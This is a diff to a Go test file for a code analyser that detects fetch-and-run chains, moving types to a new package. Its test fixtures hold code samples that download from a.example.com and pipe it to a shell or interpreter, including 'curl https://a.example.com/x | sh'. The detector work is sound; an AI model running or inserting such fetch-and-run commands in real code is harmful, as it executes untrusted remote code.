@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"github.com/skillctl/skillctl/engine/flow/chain"
+	"github.com/skillctl/skillctl/engine/flow/way"
 )
 
 // TestFed: an interpreter that is given no code runs what it is fed; another program reads it.
@@ -23,8 +24,8 @@ func TestFed(t *testing.T) {
 		"a script that reads it": {"go", "r, _ := http.Get(\"https://a.example.com/x\")\nc := exec.Command(\"python3\", \"a.py\")\nc.Stdin = r.Body\nc.Run()\n", false},
 		"a text of its own":      {"go", "c := exec.Command(\"sh\")\nc.Stdin = strings.NewReader(\"ls\")\nc.Run()\n", false},
 	} {
-		found := chain.Loose(chain.Text{File: "a", Source: []byte(c.source), Language: c.language}, nil)
-		got := slices.ContainsFunc(found.Chains, func(one chain.Chain) bool { return one.Sink.Kind == "run" && one.Sink.Channel == "stdin" })
+		found := chain.Loose(way.Text{File: "a", Source: []byte(c.source), Language: c.language}, nil)
+		got := slices.ContainsFunc(found.Chains, func(one way.Chain) bool { return one.Sink.Kind == "run" && one.Sink.Channel == "stdin" })
 		if got != c.want {
 			t.Errorf("%s: is run: %v, want %v: %+v", name, got, c.want, found.Chains)
 		}
@@ -40,8 +41,8 @@ func TestFormed(t *testing.T) {
 		"rust": "let h = \"a.example.com\";\nlet s = format!(\"curl https://{}/x | sh\", h);\nCommand::new(\"sh\").arg(\"-c\").arg(&s).spawn();\n",
 		"java": "String h = \"a.example.com\";\nString s = String.format(\"curl https://%1$s/x | sh\", h);\nnew ProcessBuilder(\"sh\", \"-c\", s).start();\n",
 	} {
-		found := chain.Loose(chain.Text{File: "a", Source: []byte(source), Language: language}, nil)
-		if !slices.ContainsFunc(found.Runs, func(r chain.Run) bool { return r.Text == want }) {
+		found := chain.Loose(way.Text{File: "a", Source: []byte(source), Language: language}, nil)
+		if !slices.ContainsFunc(found.Runs, func(r way.Run) bool { return r.Text == want }) {
 			t.Errorf("%s: runs %+v, want %q", language, found.Runs, want)
 		}
 	}
